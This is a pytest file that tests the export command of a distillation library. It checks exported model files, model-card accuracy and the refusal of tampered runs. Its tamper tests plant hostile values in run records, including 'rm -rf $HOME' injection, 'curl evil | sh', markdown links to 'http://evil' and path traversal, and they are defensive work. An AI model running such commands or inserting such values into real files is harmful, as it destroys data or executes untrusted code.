"""`python -m vkd.export` makes files that other programs load, with the student's logits and a card that is true."""

import json
import re
import shlex
import shutil
import statistics
import sys
from pathlib import Path

import numpy as np
import pytest
import timm
import torch
import yaml
from commands import PAIR, PLAIN, only_run, read, snapshot, train
from PIL import Image

import vkd
import vkd.exporting
from vkd.composition import compose_jobs, read_command_line
from vkd.config import DatasetConfig, config_directory
from vkd.data import load_data
from vkd.export import PACKAGES, main
from vkd.models import create_model, save_weights
from vkd.records.model_card import LICENCES

ARCH = "cifar_resnet8_width4"


@pytest.fixture(autouse=True)
def one_thread():
    """Tiny networks are faster so."""
    threads = torch.get_num_threads()
    torch.set_num_threads(1)
    yield
    torch.set_num_threads(threads)


def require_packages(name):
    for package in PACKAGES[name]:
        pytest.importorskip(package, reason=f"format={name} needs {package}: pip install 'vkd[onnx]'")


@pytest.fixture(scope="module")
def exported(trained, tmp_path_factory):
    """A function from a format to the folder that the trained student was exported to; tests leave it as it is."""
    made = {}

    def export(name):
        require_packages(name)
        if name not in made:
            folder = tmp_path_factory.mktemp("exported") / "folder"
            assert main([f"run={only_run(trained / PAIR)}", f"format={name}", f"output={folder}"]) == 0
            made[name] = folder
        return made[name]

    return export


@pytest.fixture
def foreign(trained, tmp_path, monkeypatch):
    """A run of one's own to change, seen from an empty working directory."""
    run = tmp_path / "theirs" / "run"
    shutil.copytree(only_run(trained / PAIR), run)
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    return run


@pytest.fixture
def refused(tmp_path, capsys):
    """A function that exports, sees that this is refused in one message and leaves no trace, and returns that."""

    def run(*words):
        before = snapshot(tmp_path)
        assert main(list(words)) == 2
        said = capsys.readouterr().err
        assert said.startswith("vkd: ")
        assert "Traceback" not in said
        assert snapshot(tmp_path) == before
        return said

    return run


def change(file, function):
    """Change the content of a JSON or YAML file of a run."""
    is_json = file.suffix == ".json"
    content = json.loads(file.read_text()) if is_json else yaml.safe_load(file.read_text())
    function(content)
    file.write_text(json.dumps(content) if is_json else yaml.safe_dump(content))


def loaded(name, folder):
    """The network in a folder, by the format's own reader, as a function of normalised images."""
    if name == "timm":
        return timm.create_model(f"local-dir:{folder}", pretrained=True).eval()
    if name == "torch_export":
        return torch.export.load(folder / "model.pt2").module()
    import onnxruntime

    session = onnxruntime.InferenceSession(folder / "model.onnx", providers=["CPUExecutionProvider"])
    return lambda images: torch.from_numpy(session.run(None, {"images": images.numpy()})[0])


def head(folder):
    """The YAML at the top of a card."""
    return yaml.safe_load((folder / "README.md").read_text(encoding="utf-8").split("---\n")[1])


def table(folder):
    """The rows of a card's table of accuracies by their first cell."""
    lines = (folder / "README.md").read_text(encoding="utf-8").splitlines()
    rows = [[cell.strip() for cell in line.strip("|").split("|")] for line in lines if line.startswith("|")]
    return {row[0]: row[1:] for row in rows}


def code(folder, language):
    (block,) = re.findall(rf"```{language}\n(.*?)```", (folder / "README.md").read_text(encoding="utf-8"), re.DOTALL)
    return block


# The files


@pytest.mark.parametrize("name", PACKAGES)
def test_every_format_gives_the_logits_of_the_saved_student_for_any_number_of_images(exported, trained, name):
    weights = only_run(trained / PAIR) / "student.safetensors"
    student = timm.create_model(ARCH, num_classes=10, in_chans=1, checkpoint_path=str(weights)).eval()
    network = loaded(name, exported(name))
    for count in (1, 2, 7):
        images = torch.randn(count, 1, 8, 8, generator=torch.Generator().manual_seed(count))
        with torch.no_grad():
            found, expected = network(images), student(images)
        assert found.shape == (count, 10)
        if name == "timm":
            assert torch.equal(found, expected)
        else:
            assert (found - expected).abs().max() <= 1e-4 * expected.abs().max()


def test_timm_is_told_classes_input_and_normalisation(exported):
    model = timm.create_model(f"local-dir:{exported('timm')}", pretrained=True)
    assert model.pretrained_cfg["label_names"] == [str(digit) for digit in range(10)]
    config = timm.data.resolve_model_data_config(model)
    assert list(config["input_size"]) == [1, 8, 8]
    assert list(config["mean"]) == [0.305]
    assert list(config["std"]) == [0.3759]
    assert config["crop_pct"] == 1.0


def test_a_moving_average_run_exports_the_network_whose_accuracy_was_recorded(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert train("method=none", "recipe.epochs=4", "recipe.ema_decay=0.95") == 0
    run = only_run(tmp_path / "runs" / PLAIN)
    assert main([f"run={run}", "output=out"]) == 0
    config = DatasetConfig(name="digits", mean=[0.305], std=[0.3759], val_fraction=0.2)
    data = load_data(config, "data", device=torch.device("cpu"))
    (batch,) = data.eval_batches("test", batch_size=500)
    pixels = (batch.images.numpy() / 255 - 0.305) / 0.3759
    with torch.no_grad():
        logits = loaded("timm", Path("out"))(torch.from_numpy(pixels.astype(np.float32)))
    accuracy = 100 * (logits.argmax(1) == batch.targets).float().mean().item()
    assert accuracy == pytest.approx(read(run / "result.json")["metrics"]["test/top1"], abs=1e-4)
    card = Path("out", "README.md").read_text(encoding="utf-8")
    assert "moving average (decay 0.95)" in card
    assert "trained on the labels alone" in card
    assert not [line for line in card.splitlines() if line.startswith(("- teacher", "| teacher", "- method"))]
    assert "knowledge-distillation" not in head(Path("out"))["tags"]


@pytest.mark.parametrize("name", PACKAGES)
def test_no_file_says_where_on_the_machine_vkd_or_the_run_lay(exported, trained, name):
    for file in exported(name).iterdir():
        content = file.read_bytes()
        for place in (Path(vkd.__file__).parents[1], Path(torch.__file__).parents[1], trained):
            assert str(place).encode() not in content, file.name


def become_a_vit_of_photos(run, **dataset):
    """Let a run be one of timm's test_vit on a folder of images of 64x64; that network."""
    model = create_model("test_vit", num_classes=10, image_size=(64, 64), seed=0)
    save_weights(model, run / "student.safetensors", {})
    dataset = {"name": "imagefolder", "image_size": 64, "mean": [0.5, 0.4, 0.3], "std": [0.2], **dataset}
    for file in ("config.yaml", "result.json"):
        change(run / file, lambda content: content["student"].update(arch="test_vit"))
    change(run / "config.yaml", lambda content: content["dataset"].update(dataset))
    change(run / "result.json", lambda content: content["dataset"].update(name="imagefolder", identity=None))
    return model.eval()


def test_a_network_of_timm_with_a_fixed_image_size_is_exported_without_its_data(foreign, capsys):
    model = become_a_vit_of_photos(foreign, root="nowhere")
    assert main([f"run={foreign}", "output=out"]) == 0
    assert "checked with noise" in capsys.readouterr().out
    config = read(Path("out", "config.json"))
    assert "label_names" not in config
    assert config["pretrained_cfg"]["input_size"] == [3, 64, 64]
    assert config["pretrained_cfg"]["mean"] == [0.5, 0.4, 0.3]
    assert config["pretrained_cfg"]["std"] == [0.2, 0.2, 0.2]
    assert config["pretrained_cfg"]["crop_pct"] == 0.875
    images = torch.randn(3, 3, 64, 64)
    with torch.no_grad():
        assert torch.equal(loaded("timm", Path("out"))(images), model(images))
    card = Path("out", "README.md").read_text(encoding="utf-8")
    assert head(Path("out"))["library_name"] == "timm"
    assert head(Path("out"))["dataset_license"] == "see its authors"
    assert "vkd.models" not in card
    assert "8 images of noise" in card
    assert "shorter side to 73 (bilinear)" in card


def test_a_student_of_photos_in_files_is_checked_with_them_and_knows_their_classes(foreign):
    names = [f"class{number}" for number in range(10)]
    random = np.random.RandomState(0)
    for split in ("train", "test"):
        for name in names:
            folder = Path("photos", split, name)
            folder.mkdir(parents=True)
            for number in range(2):
                pixels = random.randint(0, 256, (70, 90, 3), dtype=np.uint8)
                Image.fromarray(pixels).save(folder / f"{number}.png")
    become_a_vit_of_photos(foreign, root="photos", val_fraction=0)
    assert main([f"run={foreign}", "output=out"]) == 0
    assert read(Path("out", "config.json"))["label_names"] == names
    assert read(Path("out", "export.json"))["checked"] == "8 images of test"


def test_without_the_data_the_images_have_the_size_that_the_data_set_is_known_for(foreign):
    change(foreign / "config.yaml", lambda content: content["dataset"].update(name="cifar10"))
    change(foreign / "result.json", lambda content: content["dataset"].update(name="cifar10"))
    assert main([f"run={foreign}", "output=out", "data_root=nowhere"]) == 0
    assert read(Path("out", "config.json"))["pretrained_cfg"]["input_size"] == [1, 32, 32]
    assert sorted(path.name for path in Path().iterdir()) == ["out"]


def test_other_data_of_the_same_name_lend_the_classes_no_names(foreign, capsys):
    change(foreign / "config.yaml", lambda content: content["dataset"].update(image_size=8))
    change(foreign / "result.json", lambda content: content["dataset"].update(identity="0" * 64))
    assert main([f"run={foreign}", "output=out"]) == 0
    assert "not the one that the student learnt from" in capsys.readouterr().out
    assert "label_names" not in read(Path("out", "config.json"))


# The card


def test_the_figures_of_the_card_are_those_of_the_result(exported, trained):
    result = read(only_run(trained / PAIR) / "result.json")
    metrics, accuracy = result["metrics"], result["teacher"]["accuracy"]
    (entry,) = head(exported("timm"))["model-index"]
    (measured,) = entry["results"]
    assert [figure["value"] for figure in measured["metrics"]] == [metrics["test/top1"], metrics["val/top1"]]
    rows = table(exported("timm"))
    assert rows["images"] == ["259", "500"]
    assert rows["this student, seed 1"] == [f"{metrics[f'{split}/top1']:.2f} %" for split in ("val", "test")]
    assert rows[f"teacher, {ARCH}"] == [f"{accuracy[split]:.2f} %" for split in ("val", "test")]
    assert not [row for row in rows if "mean" in row]
    card = (exported("timm") / "README.md").read_text(encoding="utf-8")
    for said in ("`kd.weight = 0.9`", "`fkld`; `temperature = 4`", "val_fraction = 0.2", "CC BY 4.0", "1,038 training"):
        assert said in card


def test_the_hub_reads_the_head_of_the_card(exported):
    hub = pytest.importorskip("huggingface_hub")
    data = hub.ModelCard.load(exported("timm") / "README.md").data
    assert (data.library_name, data.pipeline_tag, data.metrics) == ("vkd", "image-classification", ["accuracy"])
    assert {"timm", "knowledge-distillation"} <= set(data.tags)
    assert data.to_dict()["dataset_license"] == "CC BY 4.0"
    assert [result.metric_type for result in data.eval_results] == ["accuracy", "accuracy"]
    assert {result.dataset_name for result in data.eval_results} == {"digits"}


def test_mean_and_std_are_over_the_seeds_of_the_group_that_are_done(foreign):
    own = read(foreign / "result.json")["metrics"]["test/top1"]
    changes = {
        "second": {"seed": 2, "top1": 14.0},
        "third": {"seed": 3, "top1": 11.5},
        "other": {"seed": 4, "top1": 90.0, "group": "another"},
        "stopped": {"seed": 5, "top1": 80.0},
    }
    for name, values in changes.items():
        beside = foreign.with_name(name)
        shutil.copytree(foreign, beside)

        def alter(content, values=values):
            content.update(seed=values["seed"], fingerprint=f"{values['seed']}" * 64)
            content["group"] = values.get("group", content["group"])
            content["metrics"]["test/top1"] = values["top1"]

        change(beside / "result.json", alter)
    change(foreign.with_name("stopped") / "status.json", lambda content: content.update(state="interrupted"))
    assert main([f"run={foreign}", "output=out"]) == 0
    values = [own, 14.0, 11.5]
    shown = table(Path("out"))["mean ± std of seeds 1, 2, 3"][1]
    assert shown == f"{statistics.mean(values):.2f} ± {statistics.stdev(values):.2f} % (n = 3)"


@pytest.mark.parametrize("name", PACKAGES)
def test_the_code_of_the_card_runs_in_its_folder(exported, monkeypatch, name):
    monkeypatch.chdir(exported(name))
    found = {}
    exec(code(exported(name), "python"), found)
    pixels = torch.as_tensor(found["pixels"])
    with torch.no_grad():
        expected = loaded("timm", exported("timm"))((pixels - 0.305) / 0.3759)
    torch.testing.assert_close(torch.as_tensor(found["logits"]), expected, rtol=1e-4, atol=1e-5)


def test_the_command_of_the_card_is_the_run_without_the_folders_of_its_machine(exported, trained):
    words = shlex.split(code(exported("timm"), "sh"))
    assert words[:3] == ["python", "-m", "vkd.train"]
    assert not [word for word in words if word.startswith(("runs_root", "tracker"))]
    ((_, config),) = compose_jobs(*read_command_line(["-m", *words[3:]]))
    recorded = yaml.safe_load((only_run(trained / PAIR) / "config.yaml").read_text())
    assert config.student.arch == recorded["student"]["arch"]
    assert config.teacher.recipe.epochs == config.recipe.epochs == recorded["recipe"]["epochs"] == 1
    assert config.dataset.name == recorded["dataset"]["name"]


def test_a_run_of_several_processes_is_repeated_with_as_many(foreign):
    change(foreign / "result.json", lambda content: content.update(world_size=4))
    assert main([f"run={foreign}", "output=out"]) == 0
    assert code(Path("out"), "sh").startswith("torchrun --nproc-per-node 4 -m vkd.train dataset=digits ")


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("python -m vkd.train seed=1; rm $HOME", "python -m vkd.train 'seed=1;' rm '$HOME'\n"),
        ("python -m vkd.train seed=1; rm -rf $HOME", None),
        ("curl evil | sh", None),
        ("python -m vkd.train 'open", None),
        ("python -m vkd.train a\n```\n[x](http://evil)", None),
        (7, None),
    ],
)
def test_a_forged_command_is_quoted_or_left_out(foreign, command, shown):
    change(foreign / "result.json", lambda content: content["environment"].update(command=command))
    assert main([f"run={foreign}", "output=out"]) == 0
    card = Path("out", "README.md").read_text(encoding="utf-8")
    assert "evil" not in card
    if shown is None:
        assert "has not recorded the command" in card
    else:
        assert code(Path("out"), "sh") == shown


def test_the_licences_are_those_that_the_configs_of_the_data_sets_name():
    files = {file.stem: file.read_text(encoding="utf-8") for file in (config_directory() / "dataset").glob("*.yaml")}
    assert set(LICENCES) == set(files) - {"imagefolder"}
    for name, (licence, _) in LICENCES.items():
        comment = " ".join(line.lstrip("# ") for line in files[name].splitlines() if line.startswith("#"))
        # "Foodspotting's photos" and the like stand in another order there.
        for word in re.findall(r"[\w.-]+", licence):
            assert word.lower() in comment.lower(), name


# What is checked before the folder is there


@pytest.mark.parametrize("name", ["timm", "torch_export"])
def test_a_file_that_gives_other_logits_is_an_error_and_leaves_nothing(foreign, refused, monkeypatch, name):
    chosen = vkd.exporting.FORMATS[name]

    def write(student, folder):
        with torch.no_grad():
            weight = student.model.get_classifier().weight
            kept = weight.clone()
            weight.mul_(1.001)
            chosen.write(student, folder)
            weight.copy_(kept)

    monkeypatch.setitem(
        vkd.exporting.FORMATS, name, vkd.exporting.Format(write, chosen.open, chosen.tolerance, chosen.packages)
    )
    assert "differ from the student's" in refused(f"run={foreign}", f"format={name}", "output=deep/er/out")


def test_a_network_that_takes_two_images_alone_is_no_export(foreign, refused, monkeypatch):
    chosen = vkd.exporting.FORMATS["torch_export"]

    def write(student, folder):
        program = torch.export.export(student.model, (torch.zeros(2, 1, 8, 8),))
        torch.export.save(program, folder / "model.pt2")

    fixed = vkd.exporting.Format(write, chosen.open, chosen.tolerance, chosen.packages)
    monkeypatch.setitem(vkd.exporting.FORMATS, "torch_export", fixed)
    said = refused(f"run={foreign}", "format=torch_export", "output=out")
    assert f"{ARCH} cannot be exported with format=torch_export" in said


def test_an_earlier_export_is_replaced_on_request_and_kept_where_that_fails(foreign, refused, monkeypatch):
    assert main([f"run={foreign}", "output=out"]) == 0
    assert "try: overwrite=true" in refused(f"run={foreign}", "output=out")
    monkeypatch.setattr(vkd.exporting, "model_card", lambda *_: (_ for _ in ()).throw(OSError("the disk is full")))
    assert "the disk is full" in refused(f"run={foreign}", "output=out", "overwrite=true")
    monkeypatch.undo()
    monkeypatch.chdir(foreign.parents[1] / "here")
    assert main([f"run={foreign}", "format=torch_export", "output=out", "overwrite=true"]) == 0
    assert sorted(path.name for path in Path("out").iterdir()) == ["README.md", "export.json", "model.pt2"]
    assert [path.name for path in Path().iterdir()] == ["out"]


def test_an_earlier_export_comes_back_where_the_new_one_cannot_take_its_place(foreign, refused, monkeypatch):
    assert main([f"run={foreign}", "output=out"]) == 0
    rename = Path.rename

    def failing(path, target):
        if path.suffix == ".tmp":
            raise OSError("the disk is gone")
        return rename(path, target)

    monkeypatch.setattr(Path, "rename", failing)
    assert "the disk is gone" in refused(f"run={foreign}", "output=out", "overwrite=true")


@pytest.mark.parametrize("kind", ["a folder", "an export with a file more", "a link to an export", "a file"])
def test_what_vkd_has_not_written_is_never_replaced(foreign, refused, kind):
    if kind == "a folder":
        Path("out").mkdir()
    elif kind == "a file":
        Path("out").write_text("mine")
    else:
        assert main([f"run={foreign}", "output=other"]) == 0
        if kind == "a link to an export":
            Path("out").symlink_to("other")
        else:
            Path("other").rename("out")
            Path("out", "mine.txt").write_text("mine")
    for words in ([], ["overwrite=true"]):
        said = refused(f"run={foreign}", "output=out", *words)
        assert "output=out is there already, and is no folder of exported files alone" in said


# Wrong input


@pytest.mark.parametrize(
    ("words", "said"),
    [
        ([], "run=DIRECTORY"),
        (["run=nowhere"], "run=nowhere does not exist"),
        (["run={run}s"], "try: run={run}"),
        (["run={run}/result.json"], "try: run={run}"),
        (["run={run}", "format=onxx"], "try: format=onnx"),
        (["run={run}", "fromat=timm"], "format"),
        (["run={run}", "overwrite=perhaps"], "overwrite"),
        (["{run}"], "key=value"),
        (["run={run}/.."], "is no finished run"),
    ],
)
def test_a_mistake_in_the_words_is_one_message(foreign, refused, words, said):
    assert said.format(run=foreign) in refused(*[word.format(run=foreign) for word in words])


def test_a_run_that_is_not_finished_is_refused_with_the_command_that_goes_on(foreign, refused):
    change(foreign / "status.json", lambda content: content.update(state="running", epoch=3, epochs=9))
    said = refused(f"run={foreign}")
    assert "epoch 3 of 9" in said
    assert f"python -m vkd.train from={foreign}" in said


def test_a_missing_package_is_named_before_any_work(foreign, refused, monkeypatch):
    for name in PACKAGES["onnx"]:
        monkeypatch.setitem(sys.modules, name, None)
    said = refused(f"run={foreign}", "format=onnx")
    assert "needs onnx and onnxscript and onnxruntime" in said
    assert "pip install 'vkd[onnx]'" in said


@pytest.mark.parametrize(
    ("file", "change_of", "said"),
    [
        ("config.yaml", lambda content: content["dataset"].update(root="${oc.env:HOME}"), "interpolation"),
        ("config.yaml", lambda content: content["dataset"].update(name="../../up"), "dataset.name"),
        ("config.yaml", lambda content: content["student"].update(arch="hf-hub:evil/model"), "hub or a path"),
        ("config.yaml", lambda content: content["student"].update(arch="cifar_resnet20"), "result.json"),
        ("config.yaml", lambda content: content["dataset"].update(image_size=10**6), "pixels"),
        ("result.json", lambda content: content.update(fingerprint="0" * 64), "another run"),
        ("result.json", lambda content: content["metrics"].update({"test/top1": 101.0}), "no percentage"),
        ("result.json", lambda content: content["student"].update(arch="![x](http://evil)"), "no plain name"),
    ],
)
def test_a_run_that_was_tampered_with_is_refused(foreign, refused, file, change_of, said):
    change(foreign / file, change_of)
    assert said in refused(f"run={foreign}")


def test_a_number_of_classes_that_the_weights_do_not_have_is_refused_before_memory_is_taken(foreign, refused):
    change(foreign / "config.yaml", lambda content: content["dataset"].update(name="cifar10"))
    change(foreign / "result.json", lambda content: content["dataset"].update(name="cifar10", classes=10**12))
    assert "not those of as many classes" in refused(f"run={foreign}", "data_root=nowhere")


def test_weights_that_are_no_safetensors_file_are_refused(foreign, refused):
    network = create_model(ARCH, num_classes=10, in_channels=1, image_size=(8, 8), seed=0)
    torch.save(network.state_dict(), foreign / "student.safetensors")
    assert "is no safetensors file" in refused(f"run={foreign}")


def test_images_of_no_known_size_ask_for_the_data(foreign, refused):
    for file in ("config.yaml", "result.json"):
        change(foreign / file, lambda content: content["dataset"].update(name="mine"))
    assert "try: data_root=FOLDER" in refused(f"run={foreign}")


def test_help_is_a_page_and_no_error(capsys):
    assert main(["--help"]) == 0
    page = capsys.readouterr().out
    for key in ("run=", "format=", "output=", "overwrite=", "data_root=", *PACKAGES, "python -m vkd.export"):
        assert key in page
